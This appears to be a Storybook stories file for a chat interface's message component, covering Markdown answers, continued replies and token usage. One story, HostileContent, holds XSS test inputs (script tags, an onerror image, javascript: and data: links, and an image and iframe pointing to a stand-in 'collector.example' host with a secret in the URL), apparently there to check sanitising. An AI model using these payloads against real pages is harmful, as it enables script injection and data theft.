import { continues, type Facts } from '@millrace/protocol'
import type { StoryObj } from '@storybook/react-vite'
import type { ReactElement } from 'react'
import { userEvent, waitFor, within } from 'storybook/test'
import type { ChatInHand } from '../fixtures/chatInHand.ts'
import { handLoader } from '../fixtures/handLoader.ts'
import type { PartMeta } from '../fixtures/PartMeta.ts'
import { shownAs } from '../fixtures/shownAs.ts'
import { noControl, type StageArgs, stageControls } from '../fixtures/stageControls.ts'
import { playAnswer } from '../fixtures/playTurn.ts'
import { prices } from '../fixtures/prices.ts'
import { answer, question } from '../fixtures/said.ts'
import type { StageProps } from '../fixtures/Stage.tsx'
import { ThreadStage } from '../fixtures/ThreadStage.tsx'
import * as Thread from '../thread/parts.ts'
import * as Message from './parts.ts'

interface Shown extends StageArgs, Pick<StageProps, 'catalogue'> {
  readonly showUsage: boolean
}

/**
 * One message: who wrote it, its parts in order, and below what is to be known of it. A question is shown as it was typed,
 * an answer as Markdown. Its actions have stories of their own.
 */
const meta = {
  component: Message.Root,
  subcomponents: {
    Author: Message.Author,
    Parts: Message.Parts,
    Footer: Message.Footer,
    Time: Message.Time,
    Usage: Message.Usage,
    Timings: Message.Timings,
  },
  argTypes: { ...stageControls, catalogue: noControl },
  args: { widthPx: 640, heightPx: 480, showUsage: false },
  render: ({ showUsage, ...stage }, { loaded }): ReactElement => (
    <ThreadStage hand={loaded['hand'] as ChatInHand} {...stage}>
      <Thread.Messages showUsage={showUsage} />
    </ThreadStage>
  ),
  parameters: {
    docs: {
      source: shownAs(`
<Thread.Messages>
  {(id) => (
    <Message.Root id={id}>
      <Message.Author />
      <Message.Parts />
      <Message.Footer />
      <Message.Usage />
      <Message.Actions />
    </Message.Root>
  )}
</Thread.Messages>
`),
    },
  },
} satisfies PartMeta<Shown>

export default meta

type Story = StoryObj<Shown>

const short = { heightPx: 240 }

export const QuestionOfOneLine: Story = {
  args: short,
  loaders: [handLoader({ messages: [question('q', 'Why is the sky blue?')] })],
  parameters: { looks: ['rtl'] },
}

export const LongQuestion: Story = {
  loaders: [
    handLoader({
      messages: [
        question(
          'q',
          [
            'I keep bees at the edge of a small town, and since the lime trees along the road were cut down my two hives have brought in much less honey than in the years before.',
            'Three things I would like to know:\n  - what could I plant that flowers in July,\n  - how far do bees really fly,\n  - and is *feeding* them a bad idea?',
            'Markup that I type, like **this** or <b>this</b>, stays as I typed it.',
          ].join('\n\n'),
        ),
      ],
    }),
  ],
  parameters: { looks: ['rtl', 'narrow', 'large'] },
}

export const QuestionWithoutASpace: Story = {
  args: short,
  loaders: [
    handLoader({
      messages: [
        question('q', `https://example.com/${'a-very-long-path/'.repeat(4)}${'x'.repeat(120)}`),
      ],
    }),
  ],
  parameters: { looks: ['narrow', 'large'] },
}

export const HeadingsAndLists: Story = {
  args: { heightPx: 680 },
  loaders: [
    handLoader({
      messages: [
        answer(
          'a',
          `# Bread in a day

A plain loaf needs *four things* and ~~no~~ **little** work. See the [flour guide](https://example.com/flour).

## What you need

- 500 g flour
- 350 ml water
  - lukewarm
  - not chlorinated
- 10 g salt

### In order

1. Mix, and wait for half an hour.
2. Fold four times.

   Between two folds the dough rests under a cloth.
3. Bake at \`230 °C\`.

#### And then

> Time does the work of the hands.
>
> > A baker's saying`,
        ),
      ],
    }),
  ],
  parameters: { looks: ['dark'] },
}

export const TaskList: Story = {
  args: short,
  loaders: [
    handLoader({
      messages: [answer('a', 'Done so far:\n\n- [x] Mixed\n- [ ] Folded\n- [ ] Baked at `230 °C`')],
    }),
  ],
}

export const TablesCodeAndFootnotes: Story = {
  args: { heightPx: 600 },
  loaders: [
    handLoader({
      messages: [
        answer(
          'a',
          `Rates from last week[^1], rounded:

| City | Rain, mm | Remarks |
| :--- | ---: | --- |
| Bergen | 71 | on six days |
| Cádiz | 0 | none since May |
| Ulm | 18 | one thunderstorm with hail |

Read them with one call:

\`\`\`python
def rain(city: str, days: int = 7) -> float:
    """Millimetres of rain, summed over the last days."""
    return sum(day.rain for day in station(city).history(days) if day.rain is not None and day.checked)
\`\`\`

---

The map is here: ![Map of the stations](https://maps.example.com/stations.png)

Bare addresses such as https://example.com become links too.

[^1]: From the open data of three weather services.`,
        ),
      ],
    }),
  ],
}

export const AutomaticReply: Story = {
  args: short,
  loaders: [
    handLoader({
      messages: [
        answer('a', 'The AI is taking a nap. Please try again in a little while.', {
          canned: 'outage',
          model: 'small-1',
          provider: 'Example',
        }),
      ],
    }),
  ],
  parameters: { looks: ['rtl'] },
}

export const CutAtItsLength: Story = {
  args: short,
  loaders: [
    handLoader({
      messages: [
        answer('a', 'The first hundred primes are 2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31,', {
          finishReason: 'length',
          model: 'small-1',
          provider: 'Example',
        }),
      ],
    }),
  ],
  parameters: { looks: ['dark', 'forced'] },
}

const firstHalf = 'Every day at five:\n\n```sh\n# what changed since yesterday\nbackup --since yest'
const secondHalf = 'erday --to /mnt/cold\n```\n\nIt waits for the disk.'

export const ContinuedInTheMiddleOfAFence: Story = {
  args: short,
  loaders: [
    handLoader({
      messages: [
        answer('a', [
          { type: 'text', text: firstHalf },
          { type: 'step-start' },
          { type: 'text', text: secondHalf, providerMetadata: continues('a') },
        ]),
      ],
    }),
  ],
}

/** Tab to Continue, Enter, and what comes goes on in the same text. */
export const ContinuedByKeyboard: Story = {
  args: short,
  loaders: [handLoader({ messages: [answer('a', firstHalf, { finishReason: 'length' })] })],
  play: async ({ canvasElement, loaded }) => {
    const canvas = within(canvasElement)
    canvas.getByRole('button', { name: 'Continue' }).focus()
    await userEvent.keyboard('{Enter}')
    await playAnswer(loaded['hand'] as ChatInHand, { text: secondHalf })
    await waitFor(() => canvas.getByText('It waits for the disk.'))
  },
}

const counted: Facts = {
  model: 'small-1',
  provider: 'Example',
  usage: { inputTokens: 1204, outputTokens: 356, totalTokens: 1560 },
}

export const UsageAsCounted: Story = usageOf(counted)

/** Stopped before its count came: an estimate, whose cost is not known. */
export const UsageEstimated: Story = usageOf({ status: 'stopped' })

export const UsageEstimatedByTheRoute: Story = usageOf({
  ...counted,
  usage: { ...counted.usage, estimated: true },
})

/** Nobody was asked: what it used then is what it saved now. */
export const AnsweredBefore: Story = {
  ...usageOf({
    ...counted,
    usage: { inputTokens: 0, outputTokens: 0, totalTokens: 0 },
    cached: { createdAt: 0, saved: counted.usage ?? {} },
  }),
  parameters: { looks: ['rtl'] },
}

export const HostileContent: Story = {
  args: { heightPx: 540 },
  loaders: [
    handLoader({
      messages: [
        question('q', '<img src=x onerror="alert(1)">'),
        answer(
          'a1',
          `<script>alert('written')</script>

A [dead link](javascript:alert(1)), a [hidden one](<java\tscript:alert(1)>) and one to [data](data:text/html,<script>alert(1)</script>).

An image that would tell: ![](https://collector.example/?secret=1234)

<iframe src="https://collector.example"></iframe>`,
        ),
        answer('a2', `${'> '.repeat(150)}at the bottom`),
      ],
    }),
  ],
}

function usageOf(facts: Facts): Story {
  return {
    args: { ...short, showUsage: true, catalogue: prices },
    loaders: [
      handLoader({
        messages: [answer('a', 'Bees fly up to three kilometres, rarely further.', facts)],
      }),
    ],
  }
}
